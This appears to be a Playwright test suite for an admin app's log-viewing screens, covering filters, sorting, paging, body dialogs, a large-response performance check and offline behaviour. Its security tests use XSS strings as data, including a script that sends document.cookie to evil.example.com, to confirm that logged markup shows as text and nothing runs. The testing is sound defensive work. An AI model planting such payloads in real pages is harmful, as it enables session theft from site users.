/**
 * The admin log screens against the reference server (issue 6):
 * each opens as the admin with the seeded rows, filters, sorts and pages change the rows,
 * each dialog shows its record, bodies holding markup show it as text and run nothing, and
 * the seeded 4 MB response opens while the page keeps answering.
 *
 * The API log grows while the tests run (every call is logged, other tests' too), so the
 * API Logs tests read seeded rows only: a site no demo user works at (PHX), or one row by id.
 */
import { expect, test, type Locator, type Page } from '@playwright/test';
import { demoUsers, submitSignIn } from './fixtures';
import { bodyRows, columnTexts, openAsAdmin, searchOf, serverList, settled, table } from './list-helpers';

const img = '<img src=x onerror=alert(1)>';
const script = "<script>alert('xss')</script>";

interface LogRow {
  id: number;
}

/** The ids of a log table (the Id cell also shows the created time, under the id). */
async function ids(list: Locator, header = 'Id'): Promise<string[]> {
  return (await columnTexts(list, header)).map((text) => text.split('\n')[0]?.trim() ?? '');
}

const query = (entries: [string, string][]) => new URLSearchParams(entries).toString();

/** Fails the test if a page dialog (alert, confirm) opens: a body's script ran. */
function watchForScripts(page: Page): () => Promise<void> {
  const fired: string[] = [];
  page.on('dialog', (dialog) => {
    fired.push(dialog.message());
    void dialog.dismiss();
  });
  return async () => {
    expect(fired, 'no alert or other page dialog fires').toEqual([]);
    // Nothing from a body became an element: no image with src=x, no script with its code.
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    const injected = await page.evaluate(() => [...document.scripts].filter((element) => /alert|evil\.example/.test(element.textContent ?? '')).length);
    expect(injected).toBe(0);
  };
}

/** The oldest (seeded) API log matching the filters: the reference server's own rows come later. */
async function seededApiLog(page: Page, token: string, filters: string[]): Promise<number> {
  const entries: [string, string][] = filters.map((filter, index) => [`filters[${index}]`, filter]);
  const found = await serverList<LogRow>(page, token, 'api_logs', query([...entries, ['order_by[]', 'id|asc'], ['per_page', '1']]));
  const first = found.data[0];
  if (!first) throw new Error(`No seeded API log for ${filters.join(', ')}`);
  return first.id;
}

test.describe('API Logs', () => {
  test('opens with the seeded rows newest first; filters, sorts and pages change them', async ({ page }) => {
    const token = await openAsAdmin(page, '/apilogs?site=PHX');
    const list = table(page, 'API Logs');
    await settled(list);
    await expect(page.getByRole('heading', { level: 1, name: 'API Logs' })).toBeVisible();
    const phx: [string, string][] = [['filters[0]', 'site.code|eq|PHX']];
    const first = await serverList<LogRow>(page, token, 'api_logs', query([...phx, ['order_by[]', 'id|desc'], ['per_page', '10']]));
    expect(first.total).toBeGreaterThan(25);
    expect(await ids(list)).toEqual(first.data.map((row) => String(row.id)));
    await expect(list.getByRole('columnheader', { name: 'Id', exact: true })).toHaveAttribute('aria-sort', 'descending');
    await expect(page.getByText(`1–10 of ${first.total.toLocaleString('en-US')} API logs`)).toBeVisible();
    await expect(page.getByRole('combobox', { name: 'Site' })).toHaveValue('PHX');

    // A choice applies at once; the method column then holds only that method.
    await page.getByRole('combobox', { name: 'Method' }).selectOption('POST');
    await expect(page).toHaveURL(/\?site=PHX&method=POST$/);
    await settled(list);
    expect(new Set(await columnTexts(list, 'Method'))).toEqual(new Set(['POST']));
    // Every POST row has its Request button, and every row its Response button.
    await expect(list.getByRole('button', { name: /^Request of API log/ })).toHaveCount(await bodyRows(list).count());
    await expect(list.getByRole('button', { name: /^Response of API log/ })).toHaveCount(await bodyRows(list).count());

    const post: [string, string][] = [...phx, ['filters[1]', 'method|eq|POST']];
    const byRoute = await serverList<LogRow>(page, token, 'api_logs', query([...post, ['order_by[]', 'route|asc'], ['per_page', '10'], ['page', '2']]));
    await list.getByRole('button', { name: 'Route' }).click();
    await expect(list.getByRole('columnheader', { name: 'Route' })).toHaveAttribute('aria-sort', 'ascending');
    await page.getByRole('button', { name: 'Next page' }).click();
    expect(searchOf(page)).toEqual({ site: 'PHX', method: 'POST', sort: 'route', dir: 'asc', page: '2' });
    await settled(list);
    expect(await ids(list)).toEqual(byRoute.data.map((row) => String(row.id)));

    // A text filter applies on Enter and returns to page 1; GET rows have no Request button.
    await page.getByRole('combobox', { name: 'Method' }).selectOption('GET');
    const route = page.getByRole('textbox', { name: 'Route' });
    await route.fill('/v3/util/vehicles');
    await route.press('Enter');
    await expect.poll(() => searchOf(page)).toEqual({ site: 'PHX', method: 'GET', route: '/v3/util/vehicles', sort: 'route', dir: 'asc' });
    await settled(list);
    for (const text of await columnTexts(list, 'Route')) expect(text).toContain('/v3/util/vehicles');
    await expect(list.getByRole('button', { name: /^Request of/ })).toHaveCount(0);

    await page.getByRole('combobox', { name: 'Rows per page' }).selectOption('25');
    await settled(list);
    expect(await bodyRows(list).count()).toBeGreaterThan(10);
  });

  test('the dialog shows the full record; markup in headers and JSON bodies is text and runs nothing', async ({ page }) => {
    const checkScripts = watchForScripts(page);
    const token = await openAsAdmin(page, '/apilogs');
    const id = await seededApiLog(page, token, ['method|eq|PUT', 'route|like|/v3/util/dealer_reps/', 'response_status|eq|200']);
    await page.goto(`/apilogs?id=${id}`);
    const list = table(page, 'API Logs');
    await settled(list);
    await expect(bodyRows(list)).toHaveCount(1);

    await list.getByRole('button', { name: `Request of API log ${id}` }).click();
    const dialog = page.getByRole('dialog', { name: 'Request' });
    await expect(dialog).toBeVisible();
    await expect(dialog.getByText(`API log ${id} · PUT /v3/util/dealer_reps/`)).toBeVisible();
    await expect(dialog.getByText('DAL · Dallas Auto Auction')).toBeVisible();
    // The request's User-Agent carries markup: shown as its characters.
    await expect(dialog.getByRole('heading', { name: 'Request Headers' })).toBeVisible();
    await expect(dialog.getByText(`Safari/537.36 ${img}`, { exact: false })).toBeVisible();
    await expect(dialog.getByText('Bearer ****')).toBeVisible();
    const requestBody = dialog.getByRole('tree', { name: 'Request Body' });
    await expect(requestBody.getByRole('treeitem', { name: /^display_name/ })).toContainText(`"${img}"`);
    await expect(requestBody.getByRole('treeitem', { name: /^auth_reason/ })).toContainText(`Verified by phone ${script}`);
    const responseBody = dialog.getByRole('tree', { name: 'Response Body' });
    await expect(responseBody.getByRole('treeitem', { name: /^display_name/ })).toContainText(img);
    // The raw text too, on request.
    await dialog.getByRole('group', { name: 'Show Request Body as' }).getByRole('button', { name: 'Text' }).click();
    await expect(dialog.getByRole('region', { name: 'Request Body' })).toContainText(`{"display_name":"${img}"`);
    await checkScripts();

    // Escape closes it and gives the focus back; the Response button opens the same record at the response.
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    await expect(list.getByRole('button', { name: `Request of API log ${id}` })).toBeFocused();
    await list.getByRole('button', { name: `Response of API log ${id}` }).click();
    const response = page.getByRole('dialog', { name: 'Response' });
    await expect(response.getByRole('heading', { name: 'Response Body' })).toBeFocused();
    await expect(response.getByRole('tree', { name: 'Response Body' })).toBeVisible();
    await checkScripts();
  });

  test('XML, plain-text and HTML bodies show as tree or text, with CDATA and scripts as characters', async ({ page }) => {
    const checkScripts = watchForScripts(page);
    const token = await openAsAdmin(page, '/apilogs');
    const list = table(page, 'API Logs');

    // XML from Cubed: markup escaped in a text node and inside CDATA.
    const xmlId = await seededApiLog(page, token, ['user|eq|cubed-bridge']);
    await page.goto(`/apilogs?id=${xmlId}`);
    await settled(list);
    await list.getByRole('button', { name: `Request of API log ${xmlId}` }).click();
    let dialog = page.getByRole('dialog', { name: 'Request' });
    const xml = dialog.getByRole('tree', { name: 'Request Body' });
    await expect(xml.getByRole('treeitem', { name: /^VehicleEvent/ })).toHaveAttribute('aria-expanded', 'true');
    await expect(xml.getByRole('treeitem', { name: /^@type/ })).toContainText('VehicleCheckIn');
    await expect(xml.getByRole('treeitem', { name: /^Model/ })).toContainText(img);
    // A small document opens whole.
    await expect(xml.getByRole('treeitem', { name: /^Notes/ })).toHaveAttribute('aria-expanded', 'true');
    await expect(xml.getByRole('treeitem', { name: /^#cdata/ })).toContainText(`${script} ${img}`);
    await expect(dialog.getByRole('tree', { name: 'Response Body' }).getByRole('treeitem', { name: /^Message/ })).toContainText(
      `Model is not a known model: ${img}`,
    );
    await checkScripts();
    await dialog.getByRole('button', { name: 'Close' }).first().click();

    // A plain-text request with a script, and the proxy's plain-text 502 answer.
    const textId = await seededApiLog(page, token, ['response_status|eq|502', 'route|like|/inspections']);
    await page.goto(`/apilogs?id=${textId}`);
    await settled(list);
    await list.getByRole('button', { name: `Request of API log ${textId}` }).click();
    dialog = page.getByRole('dialog', { name: 'Request' });
    await expect(dialog.getByRole('region', { name: 'Request Body' })).toHaveText(`condition_report_type_id=1\nnote=${script}`);
    await expect(dialog.getByRole('region', { name: 'Response Body' })).toContainText('upstream connect error');
    await checkScripts();
    await page.keyboard.press('Escape');

    // The load balancer's HTML 504 page: its source, as text; no request body.
    const htmlId = await seededApiLog(page, token, ['response_status|eq|504']);
    await page.goto(`/apilogs?id=${htmlId}`);
    await settled(list);
    await list.getByRole('button', { name: `Response of API log ${htmlId}` }).click();
    dialog = page.getByRole('dialog', { name: 'Response' });
    const html = dialog.getByRole('region', { name: 'Response Body' });
    await expect(html).toContainText("<script>document.location='https://evil.example.com/?c='+document.cookie</script>");
    await expect(html).toContainText(`<hr><center>lb-02 ${img}</center>`);
    await expect(dialog.getByText('No Request Body')).toBeVisible();
    await expect(page).toHaveURL(new RegExp(`/apilogs\\?id=${htmlId}$`));
    await checkScripts();
  });

  test('the 4 MB response opens in the dialog while the page keeps answering', async ({ page }) => {
    const token = await openAsAdmin(page, '/apilogs');
    const id = await seededApiLog(page, token, ['user|eq|admin@example.com', 'route|eq|/v3/util/vehicles']);
    await page.goto(`/apilogs?id=${id}`);
    const list = table(page, 'API Logs');
    await settled(list);

    // A heartbeat on the page's thread: the longest gap between timer ticks while the body opens.
    await page.evaluate(() => {
      const state = { last: performance.now(), longest: 0, running: true };
      (window as unknown as { __beat: typeof state }).__beat = state;
      const tick = () => {
        const now = performance.now();
        state.longest = Math.max(state.longest, now - state.last);
        state.last = now;
        if (state.running) setTimeout(tick, 10);
      };
      setTimeout(tick, 10);
    });
    await list.getByRole('button', { name: `Response of API log ${id}` }).click();
    const dialog = page.getByRole('dialog', { name: 'Response' });
    const tree = dialog.getByRole('tree', { name: 'Response Body' });
    await expect(tree).toBeVisible({ timeout: 15_000 });
    await expect(dialog.getByText(/^JSON · [34]\.\d MB$/)).toBeVisible();
    const longest = await page.evaluate(() => {
      const beat = (window as unknown as { __beat: { longest: number; running: boolean } }).__beat;
      beat.running = false;
      return beat.longest;
    });
    console.log(`4 MB body: longest main-thread gap while opening ${Math.round(longest)} ms`);
    // Parsing and drawing the whole document on the page's thread holds it for many seconds.
    // The bound leaves room for a loaded 2-core machine, where the renderer also waits for
    // the CPU (about 200-400 ms when quiet, most of it the Chakra dialog's first render).
    expect(longest).toBeLessThan(3_000);
    // What keeps it so, whatever the machine: only the first levels are on the page.
    expect(await tree.getByRole('treeitem').count()).toBeLessThan(20);

    // The 1000 vehicles are one closed node; opened, they come 100 at a time, quickly.
    const data = tree.getByRole('treeitem', { name: /^data/ });
    await expect(data).toHaveAttribute('aria-expanded', 'false');
    await expect(data).toContainText('1,000 items');
    const started = Date.now();
    await data.locator('.tv-row').first().click();
    await expect(data).toHaveAttribute('aria-expanded', 'true');
    await expect(tree.getByRole('treeitem', { name: /^\[99\]/ })).toBeVisible();
    expect(Date.now() - started).toBeLessThan(2_000);
    await expect(tree.getByRole('button', { name: 'Show 100 more of 1,000' })).toBeVisible();
    expect(await data.locator(':scope > ul > [role=treeitem]').count()).toBe(100);
    // The raw text comes a chunk at a time.
    await dialog.getByRole('button', { name: 'Text' }).click();
    await expect(dialog.getByRole('button', { name: /^Show more \([34]\.\d MB left\)$/ })).toBeVisible();
    expect((await dialog.getByRole('region', { name: 'Response Body' }).textContent())?.length).toBe(20_000);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  });
});

test.describe('AA Card Validation Logs', () => {
  interface AaRow {
    id: number;
    person_id: string;
    success: number;
    valid: number;
    payload: string;
    response: string | null;
  }

  test('filters by Success and Valid, sorts by person, and shows the request and response bodies', async ({ page }) => {
    const token = await openAsAdmin(page, '/aavalidationlogs');
    const list = table(page, 'AA Card Validation Logs');
    await settled(list);
    const newest = await serverList<AaRow>(
      page,
      token,
      'api_aavalidation_logs',
      query([
        ['order_by[]', 'id|desc'],
        ['per_page', '10'],
      ]),
    );
    expect(await ids(list)).toEqual(newest.data.map((row) => String(row.id)));

    await page.getByRole('combobox', { name: 'Valid' }).selectOption('No');
    await expect(page).toHaveURL(/\?valid=0$/);
    await settled(list);
    expect(new Set(await columnTexts(list, 'Valid'))).toEqual(new Set(['No']));
    await page.getByRole('combobox', { name: 'Success' }).selectOption('No');
    await settled(list);
    expect(new Set(await columnTexts(list, 'Success'))).toEqual(new Set(['No']));
    expect(new Set(await columnTexts(list, 'Message'))).toEqual(new Set(['AuctionACCESS service timeout after 10000 ms']));

    await page.getByRole('combobox', { name: 'Success' }).selectOption('Choose Option');
    await list.getByRole('button', { name: 'AA Person Id' }).click();
    await expect(list.getByRole('columnheader', { name: 'AA Person Id' })).toHaveAttribute('aria-sort', 'ascending');
    await settled(list);
    const byPerson = await serverList<AaRow>(
      page,
      token,
      'api_aavalidation_logs',
      query([
        ['filters[0]', 'valid|eq|0'],
        ['order_by[]', 'person_id|asc'],
        ['per_page', '10'],
      ]),
    );
    expect(await columnTexts(list, 'AA Person Id')).toEqual(byPerson.data.map((row) => row.person_id));

    const row = byPerson.data.find((candidate) => candidate.response !== null) ?? byPerson.data[0];
    if (!row) throw new Error('no AA log');
    await list.getByRole('button', { name: `Request of AA validation log ${row.id}` }).click();
    let dialog = page.getByRole('dialog', { name: 'Request' });
    await expect(dialog.getByText(`AA validation log ${row.id}`, { exact: false })).toBeVisible();
    await expect(dialog.getByRole('tree', { name: 'Request Body' }).getByRole('treeitem', { name: /^auctionAccessId/ })).toContainText(`"${row.person_id}"`);
    await page.keyboard.press('Escape');
    await list.getByRole('button', { name: `Response of AA validation log ${row.id}` }).click();
    dialog = page.getByRole('dialog', { name: 'Response' });
    if (row.response === null) await expect(dialog.getByText('No Response Body')).toBeVisible();
    else await expect(dialog.getByRole('tree', { name: 'Response Body' }).getByRole('treeitem', { name: /^status/ })).toBeVisible();
  });
});

test.describe('Spincar Logs', () => {
  interface SpincarRow {
    id: number;
    vehicle_id: number;
    asset_id: string;
    spincar_asset_identifier: string;
    error: string | null;
  }

  test('links each vehicle to its inspections, filters errors and vehicles, and shows the payload', async ({ page }) => {
    const token = await openAsAdmin(page, '/spincarlogs');
    const list = table(page, 'Spincar Logs');
    await settled(list);
    const newest = await serverList<SpincarRow>(
      page,
      token,
      'api_spincar_logs',
      query([
        ['order_by[]', 'id|desc'],
        ['per_page', '10'],
      ]),
    );
    expect(await ids(list)).toEqual(newest.data.map((row) => String(row.id)));
    const top = newest.data[0];
    if (!top) throw new Error('no Spincar log');
    await expect(list.getByRole('link', { name: `Inspections of vehicle ${top.vehicle_id}` }).first()).toHaveAttribute(
      'href',
      `/vehicles/${top.vehicle_id}/inspections`,
    );

    await page.getByRole('checkbox', { name: 'Errors only' }).click();
    await expect(page).toHaveURL(/\?errors=true$/);
    await settled(list);
    for (const text of await columnTexts(list, 'Error')) expect(text).not.toBe('');

    await page.getByRole('textbox', { name: 'Vehicle Id' }).fill(String(top.vehicle_id));
    await page.getByRole('textbox', { name: 'Vehicle Id' }).press('Enter');
    await page.getByRole('checkbox', { name: 'Errors only' }).click();
    await expect(page).toHaveURL(new RegExp(`\\?vehicle=${top.vehicle_id}$`));
    await settled(list);
    for (const text of await columnTexts(list, 'Vehicle Id')) expect(text).toBe(String(top.vehicle_id));

    // The asset filter finds a log by Spincar's asset id.
    await page.goto(`/spincarlogs?asset=${top.asset_id}`);
    await settled(list);
    expect(await ids(list)).toEqual([String(top.id)]);
    await list.getByRole('button', { name: `Payload of Spincar log ${top.id}` }).click();
    const dialog = page.getByRole('dialog', { name: 'Payload' });
    const payload = dialog.getByRole('tree', { name: 'Payload' });
    await expect(payload.getByRole('treeitem', { name: /^vin/ })).toContainText(`"${top.spincar_asset_identifier}"`);
    await expect(payload.getByRole('treeitem', { name: /^asset_id/ })).toContainText(`"${top.asset_id}"`);
  });
});

test.describe('Spincar Logs’ vehicle link', () => {
  test('says first that the inspections need an auction sign-in, and leads there: sign out, sign in as auction staff, the inspections open', async ({
    page,
  }) => {
    const token = await openAsAdmin(page, '/spincarlogs');
    const rows = await serverList<{ id: number; vehicle_id: number; site: { code: string; name: string } | null; vehicle: unknown }>(
      page,
      token,
      'api_spincar_logs',
      query([
        ['with[]', 'site'],
        ['with[]', 'vehicle'],
        ['filters[0]', 'vehicle_id|notnull|'],
        ['order_by[]', 'id|desc'],
        ['per_page', '100'],
      ]),
    );
    const row = rows.data.find((candidate) => candidate.site?.code === 'DAL' && candidate.vehicle);
    if (!row) throw new Error('no DAL Spincar log with a vehicle in the seed');
    await page.goto(`/spincarlogs?vehicle=${row.vehicle_id}`);
    const list = table(page, 'Spincar Logs');
    await settled(list);
    const link = list.getByRole('link', { name: `Inspections of vehicle ${row.vehicle_id}` }).first();
    // The vehicle's link stays a link to its inspections.
    await expect(link).toHaveAttribute('href', `/vehicles/${row.vehicle_id}/inspections`);

    await link.click();
    const dialog = page.getByRole('alertdialog', { name: 'Inspections need an auction sign-in' });
    await expect(dialog).toContainText(`The inspections of vehicle ${row.vehicle_id} are a screen for auction staff`);
    await expect(dialog).toContainText('Auction Staff Sign In at DAL (Dallas Auto Auction)');
    await dialog.getByRole('button', { name: 'Stay here' }).click();
    await expect(dialog).toBeHidden();
    await expect(page).toHaveURL(new RegExp(`/spincarlogs\\?vehicle=${row.vehicle_id}$`));

    await link.click();
    await dialog.getByRole('button', { name: 'Sign out and sign in as auction staff' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Auction Staff Sign In' })).toBeVisible();
    await submitSignIn(page, demoUsers.inspector);
    await expect(page).toHaveURL(new RegExp(`/vehicles/${row.vehicle_id}/inspections$`));
    await expect(page.getByRole('heading', { level: 1, name: 'Vehicle Inspection' })).toBeVisible();
  });
});

test.describe('Badge Logs', () => {
  interface BadgeRow {
    id: number;
    rep_auction_access: string | null;
    has_error: number;
    error_message: string | null;
    error_message_text: string | null;
    site: { code: string } | null;
  }

  test('shows Error in red or Details, opens Badge Details with the markup as text, and pages only above 10 rows', async ({ page }) => {
    const checkScripts = watchForScripts(page);
    const token = await openAsAdmin(page, '/apibadgelogs');
    const list = table(page, 'Badge Logs');
    await settled(list);
    const newest = await serverList<BadgeRow>(
      page,
      token,
      'api_badge_logs',
      query([
        ['order_by[]', 'id|desc'],
        ['per_page', '10'],
        ['with[]', 'site'],
      ]),
    );
    expect(await ids(list, 'ID')).toEqual(newest.data.map((row) => String(row.id)));
    expect(await columnTexts(list, 'Customer')).toEqual(newest.data.map((row) => row.site?.code ?? 'Error'));
    expect(await columnTexts(list, 'Message')).toEqual(newest.data.map((row) => (row.has_error ? 'Error' : 'Details')));
    await expect(page.getByRole('navigation', { name: 'badge logs pages' })).toBeVisible();

    // The Customer column sorts by the code it shows, the logs without a customer ("Error") first.
    await list.getByRole('button', { name: 'Customer' }).click();
    await expect(list.getByRole('columnheader', { name: 'Customer' })).toHaveAttribute('aria-sort', 'ascending');
    await settled(list);
    const byCustomer = await serverList<BadgeRow>(
      page,
      token,
      'api_badge_logs',
      query([
        ['order_by[]', 'site.code|asc'],
        ['per_page', '10'],
        ['with[]', 'site'],
      ]),
    );
    const customers = byCustomer.data.map((row) => row.site?.code ?? 'Error');
    expect(await columnTexts(list, 'Customer')).toEqual(customers);
    const codes = customers.filter((code) => code !== 'Error');
    expect(codes).toEqual([...codes].sort());
    await list.getByRole('button', { name: 'Customer' }).click();
    await expect(list.getByRole('columnheader', { name: 'Customer' })).toHaveAttribute('aria-sort', 'descending');
    // Back to the newest first: the ID column's own order.
    await list.getByRole('button', { name: 'ID', exact: true }).click();
    await expect(list.getByRole('columnheader', { name: 'ID', exact: true })).toHaveAttribute('aria-sort', 'descending');
    await settled(list);

    // The newest failed request's error text holds markup.
    await page.getByRole('checkbox', { name: 'Errors only' }).click();
    await settled(list);
    const errors = await serverList<BadgeRow>(
      page,
      token,
      'api_badge_logs',
      query([
        ['filters[0]', 'has_error|eq|1'],
        ['order_by[]', 'id|desc'],
        ['per_page', '1'],
      ]),
    );
    const failed = errors.data[0];
    if (!failed) throw new Error('no failed badge log');
    const error = list.getByRole('button', { name: `Error of badge log ${failed.id}` });
    const colour = await error.evaluate((element) => getComputedStyle(element).color);
    const [red = 0, green = 0, blue = 0] = (colour.match(/\d+/g) ?? []).map(Number);
    expect(red, `Error is red (${colour})`).toBeGreaterThan(Math.max(green, blue) + 60);
    await error.click();
    const dialog = page.getByRole('dialog', { name: 'Badge Details' });
    await expect(dialog.getByText(failed.error_message ?? '', { exact: true })).toBeVisible();
    await expect(dialog.getByText(`The representative "${img}" is not on the dealer rep list ${script}`)).toBeVisible();
    await expect(dialog.getByRole('tree', { name: 'Response' }).getByRole('treeitem', { name: /^ok/ })).toContainText('false');
    await checkScripts();
    await page.keyboard.press('Escape');

    // Ten rows or fewer: no pagination.
    const repAa = newest.data.find((row) => row.rep_auction_access)?.rep_auction_access ?? '';
    await page.goto(`/apibadgelogs?repAa=${repAa}`);
    await settled(list);
    const few = await serverList<BadgeRow>(
      page,
      token,
      'api_badge_logs',
      query([
        ['filters[0]', `rep_auction_access|eq|${repAa}`],
        ['per_page', '10'],
      ]),
    );
    expect(few.total).toBeLessThanOrEqual(10);
    await expect(bodyRows(list)).toHaveCount(few.total);
    await expect(page.getByRole('navigation', { name: 'badge logs pages' })).toHaveCount(0);
    await list
      .getByRole('button', { name: /^Details of badge log|^Error of badge log/ })
      .first()
      .click();
    await expect(page.getByRole('dialog', { name: 'Badge Details' })).toBeVisible();
  });
});

test.describe('Valuation History', () => {
  interface ValuationRow {
    id: number;
    vehicle_id: number;
    vin: string;
    created_at: string;
  }

  test('filters by site, vehicle and exact or fuzzy VIN back on page 1, and shows the Data dialog titled with the VIN', async ({ page }) => {
    const token = await openAsAdmin(page, '/valuationlogs?page=3');
    const list = table(page, 'Valuation History');
    await settled(list);
    const third = await serverList<ValuationRow>(
      page,
      token,
      'api_valuation_logs',
      query([
        ['order_by[]', 'id|desc'],
        ['per_page', '10'],
        ['page', '3'],
      ]),
    );
    expect(await ids(list)).toEqual(third.data.map((row) => String(row.id)));
    await expect(list.getByRole('columnheader', { name: 'Id', exact: true })).toHaveAttribute('aria-sort', 'descending');

    await page.getByRole('combobox', { name: 'Site' }).selectOption('DAL');
    await expect(page).toHaveURL(/\/valuationlogs\?site=DAL$/);
    await settled(list);
    expect(new Set(await columnTexts(list, 'Site'))).toEqual(new Set(['Dallas Auto Auction']));

    const dallas = await serverList<ValuationRow>(
      page,
      token,
      'api_valuation_logs',
      query([
        ['filters[0]', 'site.code|eq|DAL'],
        ['order_by[]', 'id|desc'],
        ['per_page', '10'],
      ]),
    );
    const row = dallas.data[0];
    if (!row) throw new Error('no Dallas valuation');
    const part = row.vin.slice(3, 9).toLowerCase();
    const fuzzy = page.getByRole('textbox', { name: 'VIN fuzzy' });
    await fuzzy.fill(part);
    await fuzzy.press('Enter');
    await expect(page).toHaveURL(new RegExp(`\\?site=DAL&vinLike=${part.toUpperCase()}$`));
    await settled(list);
    for (const vin of await columnTexts(list, 'VIN')) expect(vin).toContain(part.toUpperCase());

    await page.goto(`/valuationlogs?vin=${row.vin.toLowerCase()}&vehicle=${row.vehicle_id}`);
    await settled(list);
    for (const vin of await columnTexts(list, 'VIN')) expect(vin).toBe(row.vin);
    for (const vid of await columnTexts(list, 'VID')) expect(vid).toBe(String(row.vehicle_id));

    await page.goto(`/valuationlogs?vin=${row.vin}`);
    await settled(list);
    await list.getByRole('button', { name: `Data of valuation ${row.id} of ${row.vin}` }).click();
    const dialog = page.getByRole('dialog', { name: row.vin });
    await expect(dialog.getByRole('tree', { name: 'Data' }).getByRole('treeitem', { name: /^vin/ })).toContainText(`"${row.vin}"`);
    await expect(dialog.getByText('Fetched')).toBeVisible();
  });

  test('says plainly that it needs a connection when there is none', async ({ page }) => {
    // Seen once online (with a filter: the plain list is then not in memory), so its code is loaded.
    await openAsAdmin(page, '/valuationlogs?site=ATL');
    await settled(table(page, 'Valuation History'));
    await page.getByRole('link', { name: 'Dashboard', exact: true }).click();
    // The dashboard shown, not only its address: the address changes before the screen's code has
    // arrived, and this tab has no service worker to serve that code once the connection is gone.
    await expect(page.getByRole('heading', { level: 1, name: 'Lot Console' })).toBeVisible();
    await page.context().setOffline(true);
    await page.getByRole('link', { name: 'Valuation History' }).click();
    await expect(page.getByText('Valuations need a connection to the server. They load when the connection returns.')).toBeVisible();
    await page.context().setOffline(false);
  });
});
